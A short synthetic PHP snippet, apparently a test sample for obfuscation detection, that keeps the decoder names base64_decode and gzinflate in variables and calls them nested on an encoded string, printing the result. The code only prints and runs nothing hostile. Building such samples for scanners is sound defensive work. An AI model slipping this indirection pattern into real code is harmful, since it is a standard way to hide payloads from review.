<?php
// synthetic: decoder names kept in variables and nested
$d1 = 'base64_decode';
$d2 = 'gzinflate';
print($d2($d1('S03OyFcwtE4dpUYpYigAS03OyFcwtE4dpUYpYigAS03OyFcwtE4dpUYpYigA')));
